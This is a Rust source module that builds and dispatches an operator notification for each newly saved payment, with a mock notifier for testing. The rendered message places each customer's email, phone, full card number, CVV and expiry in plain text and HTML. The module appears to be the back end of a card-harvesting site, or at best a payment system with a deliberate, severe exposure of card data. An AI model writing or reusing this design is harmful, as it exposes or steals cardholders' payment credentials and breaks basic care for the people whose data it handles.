//! New-payment notifications.
//!
//! A notification is dispatched on a detached task after a payment is saved.
//! Its outcome is logged and counted, never reported to the caller, and a
//! failure leaves the saved payment untouched.

use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::Arc;

use metrics::counter;
use thiserror::Error;
use tokio::task::JoinHandle;
use uuid::Uuid;

use crate::models::Payment;

/// Subject line of the operator notification.
pub const NEW_PAYMENT_SUBJECT: &str = "New Payment Received";

/// Errors that can occur while delivering a notification.
#[derive(Debug, Error)]
pub enum NotificationError {
    #[error("Notification transport not configured")]
    NotConfigured,

    #[error("Invalid address: {0}")]
    InvalidAddress(String),

    #[error("Failed to send notification: {0}")]
    SendFailed(String),
}

/// Fixed-format operator message describing a newly saved payment.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct NewPaymentMessage {
    pub subject: String,
    pub body_text: String,
    pub body_html: String,
}

impl NewPaymentMessage {
    pub fn render(payment: &Payment) -> Self {
        let cvc = payment.cvc.as_deref().unwrap_or("");
        let expiry = payment.expiry.as_deref().unwrap_or("");
        let created_at = payment.created_at.to_rfc3339();

        let body_text = format!(
            "New Payment Saved\n\n\
             Email: {}\n\
             Phone: {}\n\
             Card Number: {}\n\
             CVV: {}\n\
             Expiry: {}\n\
             Payment ID: {}\n\
             Created At: {}\n",
            payment.email, payment.phone, payment.card_number, cvc, expiry, payment.id, created_at
        );

        let body_html = format!(
            r#"<h2>New Payment Saved</h2>
<p><strong>Email:</strong> {}</p>
<p><strong>Phone:</strong> {}</p>
<p><strong>Card Number:</strong> {}</p>
<p><strong>CVV:</strong> {}</p>
<p><strong>Expiry:</strong> {}</p>
<p><strong>Payment ID:</strong> {}</p>
<p><strong>Created At:</strong> {}</p>"#,
            escape_html(&payment.email),
            escape_html(&payment.phone),
            escape_html(&payment.card_number),
            escape_html(cvc),
            escape_html(expiry),
            payment.id,
            created_at
        );

        Self {
            subject: NEW_PAYMENT_SUBJECT.to_string(),
            body_text,
            body_html,
        }
    }
}

fn escape_html(value: &str) -> String {
    let mut out = String::with_capacity(value.len());
    for c in value.chars() {
        match c {
            '&' => out.push_str("&amp;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '"' => out.push_str("&quot;"),
            '\'' => out.push_str("&#39;"),
            _ => out.push(c),
        }
    }
    out
}

/// Delivers new-payment notifications to the operator.
#[async_trait::async_trait]
pub trait PaymentNotifier: Send + Sync {
    async fn notify_new_payment(&self, payment: &Payment) -> Result<(), NotificationError>;
}

/// Sends the notification for `payment` on a detached task.
///
/// The returned handle may be dropped; callers on the request path never
/// await it.
pub fn dispatch_new_payment(
    notifier: Arc<dyn PaymentNotifier>,
    payment: Payment,
) -> JoinHandle<()> {
    tokio::spawn(async move {
        match notifier.notify_new_payment(&payment).await {
            Ok(()) => {
                counter!("payment_notifications_total", "outcome" => "sent").increment(1);
                tracing::info!(payment_id = %payment.id, "New payment notification sent");
            }
            Err(e) => {
                counter!("payment_notifications_total", "outcome" => "failed").increment(1);
                tracing::error!(
                    payment_id = %payment.id,
                    error = %e,
                    "Failed to send new payment notification"
                );
            }
        }
    })
}

/// Mock notifier for development and testing.
///
/// Records the ids of the payments it was asked to announce.
#[derive(Debug, Clone, Default)]
pub struct MockPaymentNotifier {
    /// Whether to simulate failures for testing.
    pub simulate_failure: bool,
    attempts: Arc<AtomicUsize>,
    sent: Arc<std::sync::Mutex<Vec<Uuid>>>,
}

impl MockPaymentNotifier {
    pub fn new() -> Self {
        Self::default()
    }

    /// Create a mock notifier whose every delivery fails.
    pub fn failing() -> Self {
        Self {
            simulate_failure: true,
            ..Self::default()
        }
    }

    /// Number of delivery attempts, successful or not.
    pub fn attempts(&self) -> usize {
        self.attempts.load(Ordering::SeqCst)
    }

    /// Ids of payments successfully announced, in delivery order.
    pub fn sent(&self) -> Vec<Uuid> {
        self.sent.lock().map(|s| s.clone()).unwrap_or_default()
    }
}

#[async_trait::async_trait]
impl PaymentNotifier for MockPaymentNotifier {
    async fn notify_new_payment(&self, payment: &Payment) -> Result<(), NotificationError> {
        self.attempts.fetch_add(1, Ordering::SeqCst);

        if self.simulate_failure {
            tracing::warn!(payment_id = %payment.id, "Mock: simulated notification failure");
            return Err(NotificationError::SendFailed("Simulated failure".to_string()));
        }

        tracing::info!(
            payment_id = %payment.id,
            "Mock: would notify operator of new payment"
        );
        if let Ok(mut sent) = self.sent.lock() {
            sent.push(payment.id);
        }
        Ok(())
    }
}
